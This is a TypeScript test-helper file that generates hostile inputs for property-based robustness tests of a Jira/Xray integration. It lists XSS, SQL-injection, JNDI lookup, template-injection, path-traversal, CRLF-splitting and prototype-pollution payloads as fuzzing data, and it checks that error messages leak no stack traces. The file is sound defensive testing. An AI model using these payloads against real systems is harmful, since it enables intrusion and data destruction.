/**
 * Shared generators and checks for the trust properties: hostile values (anything, JSON, huge and
 * odd strings, prototype-pollution keys, deep nesting), a mutator that damages a realistic value at
 * random places, and the error taxonomy as a runtime list.
 */
import fc from 'fast-check';
import { XRAY_REGIONS, type ErrorCode, type ErrorDto } from '../../../src/api';

/** Every code of the taxonomy (a missing or extra key is a compile error). */
const CODES: Record<ErrorCode, true> = {
  JIRA_UNAUTHORIZED: true,
  PROJECT_NOT_FOUND: true,
  ISSUE_NOT_FOUND: true,
  XRAY_AUTH_FAILED: true,
  XRAY_LICENSE_INVALID: true,
  XRAY_WRONG_REGION: true,
  XRAY_API_ERROR: true,
  KEY_EXPIRED: true,
  KEY_EXPIRING: true,
  SQAI_UNREACHABLE: true,
  SQAI_UNAUTHORIZED: true,
  SQAI_REJECTED: true,
  EGRESS_NOT_ALLOWED: true,
  NOT_CONFIGURED: true,
  RATE_LIMITED: true,
  VALIDATION: true,
  FORBIDDEN: true,
  INTERNAL: true,
};
export const ERROR_CODES = new Set(Object.keys(CODES));

/** What a stack trace or a raw runtime error looks like inside a message. */
const STACKISH =
  /\n\s*at\s|\bat\s+\S+\s+\(|\(\/[^)]*:\d+:\d+\)|node_modules|\/work\/|\b(?:Type|Reference|Syntax|Range)Error\b|Cannot read propert|is not a function|undefined is not|Maximum call stack/;

export function looksLikeStack(text: string): boolean {
  return STACKISH.test(text);
}

/** Problems with an ErrorDto the UI would receive (empty = fine). */
export function errorDtoProblems(error: unknown): string[] {
  if (typeof error !== 'object' || error === null) return ['error is not an object'];
  const dto = error as Partial<ErrorDto> & Record<string, unknown>;
  const problems: string[] = [];
  if (typeof dto.code !== 'string' || !ERROR_CODES.has(dto.code))
    problems.push(`unknown code ${String(dto.code)}`);
  for (const field of ['message', 'remedy'] as const) {
    const value = dto[field];
    if (typeof value !== 'string' || value.length === 0) problems.push(`${field} is not a non-empty string`);
    else if (looksLikeStack(value))
      problems.push(`${field} looks like a stack or raw error: ${value.slice(0, 200)}`);
  }
  if (dto.fieldErrors !== undefined) {
    if (typeof dto.fieldErrors !== 'object' || dto.fieldErrors === null)
      problems.push('fieldErrors is not a record');
    else
      for (const [key, value] of Object.entries(dto.fieldErrors)) {
        if (typeof value !== 'string') problems.push(`fieldErrors.${key} is not a string`);
        else if (looksLikeStack(value))
          problems.push(`fieldErrors.${key} looks like a stack: ${value.slice(0, 200)}`);
      }
  }
  if (dto.suggestedRegion !== undefined && !(XRAY_REGIONS as readonly string[]).includes(dto.suggestedRegion))
    problems.push('suggestedRegion is not a region');
  if (dto.host !== undefined && typeof dto.host !== 'string') problems.push('host is not a string');
  return problems;
}

// ---------- hostile values ----------

export const HUGE_ASCII = 'x'.repeat(1_100_000);
export const HUGE_UNICODE = '\u{1F600}\u0301\u202E'.repeat(120_000);
export const HUGE_NO_SPACE = `A${'-'.repeat(600_000)}1`;

/** Keys that have bitten JavaScript code before. */
export const DANGEROUS_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  '',
  ' ',
  '0',
  '-1',
  'length',
  'NaN',
  '\u0000',
] as const;

const loneSurrogates = fc
  .array(fc.integer({ min: 0xd800, max: 0xdfff }), { minLength: 1, maxLength: 8 })
  .map((units) => String.fromCharCode(...units));

export const oddString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 1 },
  { arbitrary: loneSurrogates, weight: 1 },
  {
    arbitrary: fc.constantFrom(
      ...DANGEROUS_KEYS,
      '<script>alert(1)</script>',
      "'; DROP TABLE settings; --",
      '${jndi:ldap://evil/x}',
      '{{constructor.constructor("return process")()}}',
      '../../etc/passwd',
      'DEMO-1',
      'demo-1',
      '/Checkout/Generated',
      'https://evil.example.com',
      'javascript:alert(1)',
      '\u202Egnp.exe',
      '\r\n\r\nHTTP/1.1 200 OK',
      'Manual',
      '   Manual   ',
      'true',
      '1e400',
      '-0',
    ),
    weight: 2,
  },
  { arbitrary: fc.constantFrom(HUGE_ASCII, HUGE_UNICODE, HUGE_NO_SPACE), weight: 1 },
);

export const oddNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(
    0,
    -0,
    1,
    50,
    51,
    -1,
    1.5,
    NaN,
    Infinity,
    -Infinity,
    Number.MAX_SAFE_INTEGER + 2,
    1e308,
    5e-324,
  ),
);

export const oddScalar: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: oddString, weight: 4 },
  { arbitrary: oddNumber, weight: 2 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.bigInt(), weight: 1 },
  { arbitrary: fc.constantFrom(null, undefined), weight: 2 },
  { arbitrary: fc.date({ noInvalidDate: false }), weight: 1 },
);

/** Arrays or objects nested `depth` deep (a parser that recurses blindly overflows the stack). */
export const deeplyNested: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom('array', 'object', 'mixed'))
  .map(([depth, how]) => {
    let value: unknown = 'bottom';
    for (let level = 0; level < depth; level += 1) {
      const asArray = how === 'array' || (how === 'mixed' && level % 2 === 0);
      value = asArray ? [value] : { a: value };
    }
    return value;
  });

/** Objects carrying own `__proto__` / `constructor` keys, as `JSON.parse` builds them. */
export const pollutionObject: fc.Arbitrary<Record<string, unknown>> = fc
  .constantFrom(
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"__proto__":{"isAdmin":true},"force":true}',
    '{"__proto__":null}',
    '{"prototype":{"polluted":"yes"}}',
    '{"toString":"x","valueOf":1,"hasOwnProperty":false}',
  )
  .map((text) => JSON.parse(text) as Record<string, unknown>);

const keyArb: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...DANGEROUS_KEYS), weight: 1 },
  { arbitrary: fc.string({ maxLength: 12 }), weight: 2 },
);

/** Any value at all, weighted toward the shapes that break parsers. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  {
    arbitrary: fc.anything({
      maxDepth: 3,
      maxKeys: 6,
      key: keyArb,
      withBigInt: true,
      withBoxedValues: true,
      withDate: true,
      withMap: true,
      withSet: true,
      withNullPrototype: true,
      withObjectString: true,
      withSparseArray: true,
      withTypedArray: true,
      stringUnit: 'binary',
    }),
    weight: 5,
  },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 3 },
  { arbitrary: fc.dictionary(keyArb, oddScalar, { maxKeys: 5 }), weight: 2 },
  { arbitrary: fc.array(oddScalar, { maxLength: 5 }), weight: 1 },
  { arbitrary: oddScalar, weight: 2 },
  { arbitrary: deeplyNested, weight: 1 },
  { arbitrary: pollutionObject, weight: 1 },
  {
    arbitrary: fc.integer({ min: 1_000, max: 200_000 }).map((length) => Array.from({ length }, (_, i) => i)),
    weight: 1,
  },
);

/**
 * True for the payloads an empty-object schema may accept: an object with no keys, or any falsy
 * value (Forge's resolver runtime, `@forge/resolver`, hands `payload || {}` to the function).
 */
export function isEmptyPayload(payload: unknown): boolean {
  if (!payload) return true;
  if (typeof payload !== 'object' || Array.isArray(payload)) return false;
  return Object.keys(payload).length === 0;
}

// ---------- damaging a realistic value ----------

export type PathPart = string | number;

/** Every path into a JSON-like value (objects and arrays, 30 levels deep), root excluded, in a stable order. */
export function pathsOf(value: unknown, prefix: PathPart[] = [], out: PathPart[][] = []): PathPart[][] {
  if (prefix.length >= 30) return out;
  if (Array.isArray(value)) {
    value.forEach((item, index) => {
      out.push([...prefix, index]);
      pathsOf(item, [...prefix, index], out);
    });
  } else if (isPlainObject(value)) {
    for (const [key, item] of Object.entries(value)) {
      out.push([...prefix, key]);
      pathsOf(item, [...prefix, key], out);
    }
  }
  return out;
}

/** A plain or null-prototype object, from any realm (Jest's sandbox and `structuredClone` differ). */
function isPlainObject(value: unknown): value is Record<string, unknown> {
  if (typeof value !== 'object' || value === null) return false;
  const proto = Object.getPrototypeOf(value) as object | null;
  return proto === null || (Object.getPrototypeOf(proto) === null && !Array.isArray(value));
}

export type Damage =
  | { kind: 'replace'; value: unknown }
  | { kind: 'delete' }
  | { kind: 'addKey'; key: string; value: unknown }
  | { kind: 'repeat'; times: number };

export interface Mutation {
  /** Picks the path: index modulo the number of paths. */
  at: number;
  damage: Damage;
}

function containerAt(root: unknown, path: PathPart[]): unknown {
  let node = root;
  for (const part of path) node = (node as Record<PathPart, unknown>)[part];
  return node;
}

function cloneOf<T>(value: T): T {
  try {
    return structuredClone(value);
  } catch {
    return value; // not cloneable (e.g. a boxed symbol); mutated in place, which generators tolerate
  }
}

/** Applies the mutations in order to a deep copy of `value` (a root with no paths is returned unchanged). */
export function mutate<T>(value: T, mutations: Mutation[]): unknown {
  const root: unknown = cloneOf(value);
  for (const { at, damage } of mutations) {
    const paths = pathsOf(root);
    if (paths.length === 0) break;
    const path = paths[at % paths.length] ?? [];
    const parent = containerAt(root, path.slice(0, -1)) as Record<PathPart, unknown> | unknown[];
    const last = path[path.length - 1] as PathPart;
    const current = (parent as Record<PathPart, unknown>)[last];
    switch (damage.kind) {
      case 'replace':
        Object.defineProperty(parent, last, {
          value: damage.value,
          enumerable: true,
          writable: true,
          configurable: true,
        });
        break;
      case 'delete':
        if (Array.isArray(parent) && typeof last === 'number') parent.splice(last, 1);
        else delete (parent as Record<PathPart, unknown>)[last];
        break;
      case 'addKey':
        if (isPlainObject(current))
          Object.defineProperty(current, damage.key, {
            value: damage.value,
            enumerable: true,
            writable: true,
            configurable: true,
          });
        break;
      case 'repeat':
        if (Array.isArray(current) && current.length > 0) {
          const copies = Array.from({ length: damage.times }, (_, i): unknown => current[i % current.length]);
          current.push(...copies);
        }
        break;
    }
  }
  return root;
}

/** Wrong-typed stand-ins for a JSON node. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.constant(''),
  fc.constant(0),
  fc.constant(-1),
  fc.constant(true),
  fc.constant('null'),
  fc.string({ maxLength: 10 }),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.constant(1e12),
  fc.constant([null]),
  fc.constant([[]]),
  fc.constant({ name: null }),
  fc.jsonValue({ maxDepth: 2 }),
);

/** Damage for a JSON answer from an upstream: mostly nulls, then wrong types, missing keys, extras. */
export const answerDamage: fc.Arbitrary<Damage> = fc.oneof(
  { arbitrary: fc.constant<Damage>({ kind: 'replace', value: null }), weight: 6 },
  { arbitrary: wrongType.map<Damage>((value) => ({ kind: 'replace', value })), weight: 4 },
  { arbitrary: fc.constant<Damage>({ kind: 'replace', value: [] }), weight: 2 },
  { arbitrary: fc.constant<Damage>({ kind: 'delete' }), weight: 2 },
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...DANGEROUS_KEYS, 'extra', 'issueId', 'total'), fc.jsonValue({ maxDepth: 2 }))
      .map<Damage>(([key, value]) => ({ kind: 'addKey', key, value })),
    weight: 1,
  },
  {
    arbitrary: fc.integer({ min: 1, max: 120 }).map<Damage>((times) => ({ kind: 'repeat', times })),
    weight: 1,
  },
);

export const mutations = (damage: fc.Arbitrary<Damage>, maxLength = 6): fc.Arbitrary<Mutation[]> =>
  fc.array(fc.record({ at: fc.nat(), damage }), { minLength: 1, maxLength });

/** Object.prototype has not been polluted (run before/after each case). */
export function prototypeIsClean(): boolean {
  const probe: Record<string, unknown> = {};
  return (
    probe.polluted === undefined &&
    probe.isAdmin === undefined &&
    Object.getOwnPropertyNames(Object.prototype).every((name) => name !== 'polluted' && name !== 'isAdmin')
  );
}
